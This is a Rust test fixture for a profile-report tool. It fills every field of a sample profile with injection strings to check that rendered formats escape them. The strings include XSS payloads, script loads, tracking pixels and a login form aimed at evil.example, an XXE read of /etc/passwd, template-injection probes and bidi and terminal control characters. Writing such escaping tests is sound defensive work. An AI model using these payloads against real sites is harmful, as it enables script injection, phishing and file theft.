//! What somebody would write into a profile to make a report do more than say it, for the tests of every format that
//! something renders.

use followback_core::{PackFiles, Program};
use followback_profile::{Input, Options, Profile, read};
use serde_json::{Value, json};

use crate::locale::Locale;
use crate::report::{Annex, AskNote, EvidenceLine, FindingLine, Report, SpanLine, ValueLine};
use crate::session::Session;
use crate::words::Clause;

/// One text for each trick.
pub(crate) const INJECTIONS: &[&str] = &[
    // Elements and attributes.
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"https://evil.example/pixel.gif\">",
    "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<iframe srcdoc=\"<script>parent.alert(1)</script>\">",
    "<a href=\"javascript:alert(1)\">click</a>",
    "<base href=\"https://evil.example/\"><meta http-equiv=refresh content=\"0;url=https://evil.example\">",
    "<link rel=stylesheet href=https://evil.example/x.css><style>*{background:url(https://evil.example)}</style>",
    "<form action=https://evil.example><button>log in</button></form><input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    // Ways out of what surrounds a text.
    "\"><img src=x onerror=alert(1)>",
    "' onmouseover='alert(1)' x='",
    "\" autofocus onfocus=\"alert(1)",
    "` onmouseover=alert(1) `",
    "</script><script>alert(1)</script>",
    "</title></style></textarea></noscript></template><script>alert(1)</script>",
    "</bdi></p></div></section></main></body></html><script>alert(1)</script>",
    "<!--<script>",
    "--><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "]]>",
    "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>",
    // Entities, escapes and odd spellings.
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)",
    "＜script＞alert(1)＜/script＞",
    "<scr\0ipt>alert(1)</scr\0ipt>",
    "<\u{200b}script>alert(1)</script>",
    "javascript:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "https://evil.example/\"onmouseover=\"alert(1)",
    "//evil.example/x",
    // Templates and scripts.
    "{{ 7 * 7 }}{% for x in range(9) %}x{% endfor %}{# hidden #}",
    "{{ say|attr('__class__') }}",
    "${alert(1)}",
    "#{7*7}",
    "'-alert(1)-'",
    "\\\";alert(1);//",
    "__proto__",
    "constructor",
    // Markdown and chats.
    "[click](javascript:alert(1))",
    "![x](https://evil.example/pixel.gif)",
    "<https://evil.example>",
    "[x]: https://evil.example \"title\"",
    "[click][x]",
    "https://evil.example/track?me",
    "www.evil.example",
    "@everyone @here @octocat",
    "<@123456> <!channel> <#C024BE7LR>",
    "fixes #1, closes octocat/repo#2",
    "GH-1",
    "0123456789abcdef0123456789abcdef01234567",
    "# Heading",
    "- [x] done",
    "1. one",
    "+ plus",
    "> quote",
    "```\nfence\n```",
    "~~~\nfence\n~~~",
    "`code`",
    "``` `` `",
    "***bold*** __under__ ~~gone~~",
    "| a | b |\n|---|---|",
    "a | b",
    "---",
    "===",
    "    indented",
    "\ttab",
    "line\nbreak\n\nparagraph",
    "<details><summary>x</summary>",
    "$$x^2$$ $`x`$",
    ":smile:",
    "^[note]",
    "[^1]: note",
    "\\",
    "a\\",
    "*",
    "_",
    "&",
    "&amp;",
    "<",
    ">",
    "a<b>c",
    // What cannot be seen, and what turns the direction.
    "\u{202e}evil\u{202c}",
    "\u{2066}\u{2067}x\u{2069}",
    "\u{200f}rtl",
    "a\u{2028}b\u{2029}c",
    "\u{feff}\u{200b}\u{2060}",
    "\u{1b}[31mred\u{1b}]0;title\u{7}",
    "\u{0}\u{8}\u{7f}\u{9b}2J",
    "\u{e0041}\u{e0042}",
    "Z\u{334}\u{334}\u{334}\u{334}\u{334}\u{334}\u{334}\u{334}algo",
];

/// When the sample profile was exported.
const NOW: i64 = 1_776_067_200;

pub(crate) fn program() -> Program {
    let packs: [PackFiles; 0] = [];
    Session::for_authors(&packs, &followback_profile::schema(), NOW).unwrap().0.program
}

pub(crate) fn profile(name: &str, text: &str) -> Profile<'static> {
    let schema = followback_profile::schema();
    read(Input::bytes(name, text), &Options { now: Some(NOW), ..Options::new(&schema, NOW) }).unwrap()
}

/// A profile with one text wherever it has one.
fn filled(text: &str) -> Value {
    let post = |id: usize| json!({"id": id.to_string(), "created_at": format!("2026-03-{id:02}T10:00:00Z"), "text": text, "likes": 3});
    json!({"platform": "x", "handle": text, "name": text, "bio": text, "location": text, "url": text,
        "avatar_url": text, "followers": 10, "following": 20, "verified": true,
        "posts": (1..=24).map(post).collect::<Vec<_>>()})
}

/// The report on such a profile, with the text in all that packs, plugins and readers say as well.
pub(crate) fn report(program: &Program, text: &str) -> (Report, Annex) {
    let profile = profile("filled.json", &filled(text).to_string());
    let mut evaluation = program.evaluate(&profile.record, profile.now);
    let mut report = Report::new(&profile, &mut evaluation, Locale::En);
    let mut annex = Annex::new(&profile, &mut evaluation, report.locale);
    for finding in &mut report.findings {
        say(finding, text);
    }
    for result in &mut report.results {
        result.reason = Some(text.to_owned());
        result.until = Some(text.to_owned());
    }
    for factor in &mut report.factors {
        factor.title = text.to_owned();
    }
    report.names.call_all(text);
    for pack in &mut report.packs {
        pack.name = text.to_owned();
        pack.version = text.to_owned();
    }
    for rule in &mut annex.rules {
        rule.title = text.to_owned();
        rule.why = Some(text.to_owned());
        rule.sources = vec![format!("https://{text}"), text.to_owned()];
        rule.params = vec![(text.to_owned(), text.to_owned())];
        rule.asks = vec![asked(text)];
    }
    annex.named = vec![(text.to_owned(), asked(text))];
    (report, annex)
}

fn asked(text: &str) -> AskNote {
    let clause = |depth| Clause { depth, words: text.to_owned(), name: Some(text.to_owned()) };
    AskNote { title: text.to_owned(), clauses: vec![clause(0), clause(1)] }
}

fn say(finding: &mut FindingLine, text: &str) {
    finding.title = text.to_owned();
    finding.message = format!("{text}!");
    finding.advice = text.to_owned();
    let spans = || vec![SpanLine { start: 0, end: text.len(), text: text.to_owned() }];
    let evidence = |fact: &str, post: Option<&str>| EvidenceLine {
        fact: fact.to_owned(),
        post: post.map(str::to_owned),
        value: ValueLine::Text(text.to_owned()),
        spans: spans(),
    };
    finding.evidence = vec![
        evidence("bio", None),
        evidence("account.name", None),
        evidence("posts.text", Some("1")),
        evidence(text, None),
    ];
}
